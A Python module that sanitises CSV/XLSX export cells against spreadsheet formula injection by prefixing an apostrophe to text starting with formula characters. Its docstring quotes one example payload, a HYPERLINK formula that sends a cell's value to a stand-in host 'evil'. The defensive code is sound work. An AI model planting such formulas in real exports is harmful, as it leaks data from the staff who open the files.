"""Cells for CSV/XLSX exports that a spreadsheet will not run as a formula.

A citizen can type ``=HYPERLINK("http://evil/?"&A1)`` into a request; exported as is, a
spreadsheet program evaluates it when a staff member opens the file (CSV injection).
Every exported text cell goes through ``safe_csv_cell``.
"""

from __future__ import annotations

from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_csv_cell(value: Any) -> Any:
    """The value, with a leading apostrophe when a text would start a formula.

    Numbers stay numbers (a negative amount is data, not a formula); None becomes "".
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    text = str(value)
    stripped = text.lstrip(" ")
    if stripped.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text
